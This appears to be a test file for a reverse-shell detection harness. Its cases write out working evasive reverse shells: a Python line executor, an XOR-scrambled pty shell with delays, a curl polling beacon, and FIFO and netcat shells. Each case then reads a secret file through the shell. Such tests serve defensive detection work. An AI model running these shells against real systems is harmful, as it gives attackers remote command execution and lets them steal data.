# SPDX-License-Identifier: Apache-2.0
"""Shells from outside that keep a shell's streams away from the connection."""

import time

import lib_far as far
import lib_net as net
from attack_shell import script, shell
from lib_case import case


@case("reverse_shell", seconds=6, evasion=True, quick=True,
      why="a program that starts a shell for each line gives it pipes of its own")
def evade_executor(c):
    """a program that reads lines, runs each by a shell of its own, and sends what it collected"""
    script(c, "agent.py", """\
import socket, subprocess
s = socket.create_connection(("%(far)s", %(port)d))
for line in s.makefile("r"):
    s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)
""")
    shell(c, "python3 agent.py")


@case("reverse_shell", seconds=8, evasion=True,
      why="sizes agree, but times do not: the program between waits")
def evade_scrambled(c):
    """a terminal's bytes scrambled by the program between, which waits 150 ms each way"""
    script(c, "agent.py", """\
import os, pty, select, socket, time
s = socket.create_connection(("%(far)s", %(port)d))
pid, fd = pty.fork()
if not pid:
    os.execv("/bin/bash", ["worker", "--norc"])
turn = bytes(b ^ 85 for b in range(256))
while True:
    for ready in select.select([s, fd], [], [])[0]:
        data = s.recv(4096) if ready is s else os.read(fd, 4096)
        time.sleep(0.15)
        (os.write(fd, data.translate(turn)) if ready is s else s.sendall(data.translate(turn)))
""")
    word = far.secret(c)
    listener = net.listen("far", c.far, 4444)
    c.ends.callback(listener.close)
    c.attack("python3 agent.py & " + c.until_done())
    c.begin()
    listener.settimeout(15)
    with listener.accept()[0] as s:
        time.sleep(1)
        c.mark()
        turn, seen = bytes(b ^ 85 for b in range(256)), b""
        for command in b"id\n", b"pwd\n", b"cat notes.txt\n":
            s.sendall(command.translate(turn))
            time.sleep(1)
            seen += s.recv(65536).translate(turn)
    c.prove(word in seen, "the far end ran `cat notes.txt` and read the secret")


@case("reverse_shell", seconds=10, evasion=True, quick=True,
      why="no connection lasts and none is a shell's: a script that asks for work and reports it")
def evade_beacon(c):
    """every half second: is there a command? if so it is run, and its output posted; no connection lasts"""
    jobs, answers = [], []
    word = far.secret(c)

    def handle(s):
        head = net.read_until(s, b"\r\n\r\n")
        if head.startswith(b"POST"):
            answers.append(head + net.read_all(s, 0.4))
        body = jobs.pop(0) if jobs and head.startswith(b"GET") else b""
        s.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))

    far.serve(c, 80, handle)
    c.attack("(while :; do curl -s http://%s/update >task; [ -s task ] && sh task 2>&1 | curl -s --data-binary @- http://%s/stats; sleep 0.5; done) "
             ">/dev/null 2>&1 & " % (c.far, c.far) + c.until_done())
    c.begin()
    for command in b"id", b"pwd", b"cat notes.txt":
        jobs.append(command)
        c.mark()
        n = len(answers)
        c.wait_for(lambda: len(answers) > n, 10, "an answer")
    c.prove(word in b"".join(answers), "the far end ran `cat notes.txt` and read the secret")


@case("reverse_shell", seconds=7, evasion=True, quick=True)
def evade_two_calls(c):
    """the shell waits at a FIFO in one call, the connection is another call's"""
    word = far.secret(c)
    drive = far.shell_listener(c, 443)
    c.tool("nc")
    c.attack("mkfifo in out; (sh -i <>in >out 2>&1 &)")
    c.attack("./worker %s 443 <out >in & " % c.far + c.until_done())
    c.begin()
    c.prove(word in drive(), "the far end ran `cat notes.txt` and read the secret")


@case("reverse_shell", seconds=9, evasion=True,
      why="programs that wait stand between the shell and the connection")
def evade_slow_pipe(c):
    """two programs between, which pass on a line after 200 ms"""
    c.tool("nc")
    c.file("slow.sh", "while IFS= read -r line; do sleep 0.2; printf '%s\\n' \"$line\"; done\n")
    shell(c, "mkfifo pipe; ./worker %(far)s %(port)d <pipe | bash slow.sh | sh -i 2>&1 | bash slow.sh >pipe", port=443)
